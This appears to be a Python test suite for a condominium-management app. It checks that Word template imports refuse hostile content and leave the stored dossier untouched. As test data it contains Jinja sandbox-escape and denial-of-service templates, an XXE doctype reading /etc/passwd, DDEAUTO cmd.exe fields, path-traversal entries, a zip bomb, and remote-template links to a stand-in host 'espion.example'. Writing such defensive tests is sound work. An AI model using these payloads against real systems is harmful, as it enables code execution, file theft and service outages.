"""Templates from anywhere: whatever a file holds, one French sentence or a page, and nothing else is touched."""

from __future__ import annotations

import html
import random
import re
import time
import zipfile
from io import BytesIO
from pathlib import Path

import pytest

from syndic_desktop.actions import templates
from syndic_desktop.actions.imports import import_dossier
from syndic_desktop.documents.word import examined
from syndic_desktop.domain.errors import RuleViolation
from syndic_desktop.exchange import dossiers
from syndic_desktop.queries.examples import Examples, examples_of
from syndic_desktop.store import Store, create_store
from tests.actions.test_templates import EXAMPLE, MOMENT, NOTE, kept
from tests.documents.papers import TEMPLATES
from tests.documents.word.makings import altered, parts, relationship

KIND = "note-de-synthese"
WORD = "word/document.xml"
MUTATED = 420
SECONDS = 5.0
NAMES = (
    "syndicat",
    "seance",
    "points",
    "instance",
    "logo",
    "loop",
    "self",
    "_paper",
    "x",
    "''",
    "[]",
    "range",
    "cycler",
)
HIDDEN = (
    "__class__",
    "__init__",
    "__globals__",
    "__mro__",
    "_hosts",
    "__subclasses__",
    "format",
    "mro",
    "func_globals",
)


@pytest.fixture(scope="module")
def examples() -> Examples:
    read = dossiers.read(EXAMPLE)
    return examples_of(read.dossier, read.files)


def faults(content: bytes, examples: Examples) -> list[str]:
    begun = time.monotonic()
    found = examined(content, KIND, examples.contexts[KIND][:1], examples.images)
    assert time.monotonic() - begun < SECONDS
    assert found.faults or found.sheet is not None
    return [str(each) for each in found.faults]


def one_sentence(said: list[str]) -> None:
    assert said
    for sentence in said:
        assert sentence.startswith("Modèle « ")
        assert "Traceback" not in sentence
        assert not re.search(r"\b(Error|Exception|object at 0x)\b", sentence)
        assert "\n" not in sentence


def attacks() -> list[str]:
    """Code, reaches for what is no field, and loops without end."""
    chained = [f"{{{{ {name}.{first}.{second} }}}}" for name in NAMES for first in HIDDEN for second in HIDDEN[:1]]
    subscripts = [f"{{{{ {name}['{hidden}'] }}}}" for name in NAMES for hidden in HIDDEN if hidden.startswith("_")]
    called = [f"{{{{ {name}.{hidden}() }}}}" for name in NAMES for hidden in HIDDEN[:4]]
    tags = [
        "{% include 'x' %}", "{% import 'os' as os %}", "{% from 'x' import y %}", "{% extends 'x' %}",
        "{% macro m() %}{% endmacro %}", "{% call x() %}{% endcall %}", "{% block a %}{% endblock %}",
        "{% filter upper %}x{% endfilter %}", "{% set x %}y{% endset %}", "{% do x.append(1) %}",
        "{% for a in range(10**9) %}{% endfor %}", "{{ range(10)|join('x' * 900000)|length }}",
        "{% for a in range(9999) %}{% for b in range(9999) %}{% endfor %}{% endfor %}",
        "{{ 'a' * 999999999 }}", "{{ 9 ** 9 ** 9 }}", "{{ '%0999999d' % 1 }}", "{{ 'x'|center(99999999) }}",
        "{% set a = 'aaaaaaaaaa' %}" + "{% set a = a ~ a ~ a %}" * 30,
        "{{ " + "[" * 300 + "]" * 300 + " }}", "{% if x %}" * 30 + "{% endif %}" * 30, "{{ lipsum() }}",
        "{{ joiner() }}", "{{ namespace() }}", "{{ {'a': 1} }}", "{{ dict(a=1) }}", "{{ points|attr('__class__') }}",
        "{{ points|map(attribute='__class__')|list|length ~ points|tojson }}", "{{ syndicat|pprint }}",
        "{{ syndicat.nom|safe }}", "{{ points|batch(99999999, 1)|list }}", "{% raw %}{{ {% endraw %}{{ {{ }}",
    ]  # fmt: skip
    return [*dict.fromkeys([*chained, *subscripts, *called, *tags])]


def test_no_code_passes(examples: Examples) -> None:
    told = attacks()
    assert len(told) > 230
    for attack in told:
        one_sentence(faults(written(attack), examples))


def written(attack: str) -> bytes:
    """A note whose first paragraph says it."""
    return _with(f'<w:p><w:r><w:t xml:space="preserve">Vu {html.escape(attack, quote=False)}</w:t></w:r></w:p>')


def field(instruction: str) -> bytes:
    """A note whose first paragraph holds a field of Word."""
    return _with(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'{instruction}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _with(paragraph: str) -> bytes:
    xml = parts(NOTE)[WORD]
    at = xml.index(b"<w:p>") if b"<w:p>" in xml else xml.index(b"<w:p ")
    return altered(NOTE, {WORD: xml[:at] + paragraph.encode() + xml[at:]})


def told(words: str) -> str:
    return f"<w:r><w:instrText>{words}</w:instrText></w:r>"


def named(name: str, content: bytes = b"x") -> bytes:
    return altered(NOTE, {name: content})


def related(kind: str, target: str, mode: str = "External") -> bytes:
    link = relationship(kind, target).replace(b'TargetMode="External"', f'TargetMode="{mode}"'.encode())
    return altered(NOTE, {"word/_rels/footnotes.xml.rels": link})


def bomb() -> bytes:
    made = BytesIO(NOTE)
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as archive:
        for rank in range(3):
            archive.writestr(f"word/media/image{rank}.bmp", bytes(40_000_000))
    return made.getvalue()


DOCTYPE = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
VML = "urn:schemas-microsoft-com:vml"
FILES = {
    "nothing": b"",
    "no zip": b"Bonjour",
    "html": b"<html></html>",
    "a cut one": NOTE[: len(NOTE) // 2],
    "an empty zip": b"PK\x05\x06" + bytes(18),
    "macros": named("word/vbaProject.bin"),
    "macros elsewhere": named("word/x/vbaData.xml", b"<a/>"),
    "activeX": named("word/activeX/activeX1.xml", b"<a/>"),
    "an object": named("word/embeddings/oleObject1.bin"),
    "another path": named("../../etc/passwd"),
    "an absolute path": named("/etc/passwd"),
    "a drive": named("c:/windows/x.dll"),
    "a backslash": named("word\\x.xml"),
    "twice, but for capitals": named("WORD/document.xml"),
    "docm": altered(
        NOTE,
        {
            "[Content_Types].xml": lambda types: types.replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        },
    ),
    "no content types": altered(NOTE, {"[Content_Types].xml": b"<Types/>"}),
    "a doctype": altered(NOTE, {WORD: lambda xml: xml.replace(b"?>", b"?>" + DOCTYPE, 1)}),
    "a doctype in settings": altered(NOTE, {"word/settings.xml": b"<?xml version='1.0'?>" + DOCTYPE + b"<a>&b;</a>"}),
    "DDE": field(told("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")),
    "DDE in pieces": field(told("D") + told("DEA") + told("UTO cmd")),
    "INCLUDETEXT": field(told('INCLUDETEXT "C:/secret.txt"')),
    "INCLUDEPICTURE": field(told('INCLUDEPICTURE "http://espion.example/p.png"')),
    "MACROBUTTON": field(told("MACROBUTTON x y")),
    "LINK": field(told("LINK Excel.Sheet c:\\\\x.xls")),
    "INCLUDE": field(told('INCLUDE "C:/secret.txt"')),
    "EMBED": field(told("EMBED Excel.Sheet.12")),
    "RD": field(told('RD "C:/secret.docx"')),
    "DDE in one": _with('<w:p><w:fldSimple w:instr=" DDE cmd "/></w:p>'),
    "a field to a share": field(told('HYPERLINK "\\\\\\\\espion\\\\x"')),
    "a field to a server": field(told('HYPERLINK "file:') + told('//espion/x"')),
    "a field to a script": field(told("HYPERLINK javascript:alert(1)")),
    "an old drawing": _with(
        f'<w:p><w:r><w:pict xmlns:v="{VML}"><v:imagedata src="http://espion.example/p"/></w:pict></w:r></w:p>'
    ),
    "an old link": _with(f'<w:p><w:r><w:pict xmlns:v="{VML}"><v:shape href="file://espion/x"/></w:pict></w:r></w:p>'),
    "an image elsewhere": related("image", "http://espion.example/p.png"),
    "a template elsewhere": related("attachedTemplate", "https://espion.example/t.dotm"),
    "a template on a share": related("attachedTemplate", "\\\\espion\\t.dotm"),
    "a template of a server": related("attachedTemplate", "file://espion/t.dotm"),
    "OLE": related("oleObject", "file:///c:/x.xls"),
    "OLE inside": related("oleObject", "media/x.bin", "Internal"),
    "a part in HTML": related("aFChunk", "x.html", "Internal"),
    "another document": related("subDocument", "x.docx"),
    "a frame": related("frame", "http://espion.example"),
    "a link to a share": related("hyperlink", "file://espion/partage"),
    "a script": related("hyperlink", "javascript:alert(1)"),
}


@pytest.mark.parametrize("name", FILES)
def test_a_hostile_file_is_refused(examples: Examples, name: str) -> None:
    one_sentence(faults(FILES[name], examples))


@pytest.mark.parametrize(
    "words", ['HYPERLINK "https://www.legifrance.gouv.fr/"', 'HYPERLINK \\l "_Toc1"', "PAGEREF _Toc1"]
)
def test_a_plain_link_is_kept(examples: Examples, words: str) -> None:
    assert faults(field(told(words)), examples) == []


def test_a_bomb_is_refused(examples: Examples) -> None:
    one_sentence(faults(bomb(), examples))


def mutated(chance: random.Random) -> bytes:
    """The note with something broken in it: a few bytes, a part, its XML, its tags."""
    contents = parts(NOTE)
    name = chance.choice([each for each in contents if each.endswith((".xml", ".rels"))])
    part = contents[name]
    at, length = chance.randrange(len(part)), chance.randrange(1, 40)
    match chance.randrange(7):
        case 0:
            whole = bytearray(NOTE)
            for _ in range(chance.randrange(1, 8)):
                whole[chance.randrange(len(whole))] = chance.randrange(256)
            return bytes(whole)
        case 1:
            part = part[:at] + part[at + length :]
        case 2:
            part = part[:at] + bytes(chance.randrange(256) for _ in range(length)) + part[at:]
        case 3:
            numbers = list(re.finditer(rb'"\d+"', part)) or list(re.finditer(rb'"', part))
            found = chance.choice(numbers)
            other = chance.choice([b'"-1"', b'"x"', b'""', b'"999999999999999999999"', b'"1e9"', b'"\xc3\xa9"'])
            part = part[: found.start()] + other + part[found.end() :]
        case 4:
            marks = list(re.finditer(rb"\{[{%]|[%}]\}|endfor|endif|points?|w:\w+", part)) or list(
                re.finditer(rb"<", part)
            )
            found = chance.choice(marks)
            other = chance.choice([b"", b"{{", b"%}", b"endif", b"w:tbl", b"w:sectPr", b"range(99999)"])
            part = part[: found.start()] + other + part[found.end() :]
        case 5:
            part = part[:at]
        case _:
            contents.pop(name)
            return altered(NOTE, {}) if not contents else _zipped(contents)
    return altered(NOTE, {name: part})


def _zipped(contents: dict[str, bytes]) -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in contents.items():
            archive.writestr(name, content)
    return made.getvalue()


def test_whatever_is_broken_is_told(examples: Examples) -> None:
    chance = random.Random(20261123)
    broken = 0
    for _ in range(MUTATED):
        said = faults(mutated(chance), examples)
        if said:
            broken += 1
            one_sentence(said)
    assert broken > MUTATED // 3


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Store:
    read = dossiers.read(EXAMPLE)
    made = create_store(Path(tmp_path_factory.mktemp("hostile")) / "a.syndic", clock=lambda: MOMENT, holder="essai")
    import_dossier(made, read.dossier, read.files)
    templates.duplicate_set(made, "Maison", {KIND: NOTE})
    return made


@pytest.mark.parametrize("name", FILES)
def test_the_dossier_is_untouched(store: Store, examples: Examples, name: str) -> None:
    before = kept(store)
    with store.reading() as reader:
        dossier = reader.dossier()

    with pytest.raises(RuleViolation):
        templates.take_back(store, "maison", KIND, FILES[name], examples.contexts[KIND][:1], {})
    with pytest.raises(RuleViolation):
        import_dossier(store, dossier, {f"modeles/maison/{KIND}.docx": FILES[name]})

    assert kept(store) == before == {f"modeles/maison/{KIND}.docx": NOTE}
    assert (TEMPLATES / "classique" / f"{KIND}.docx").read_bytes() == NOTE
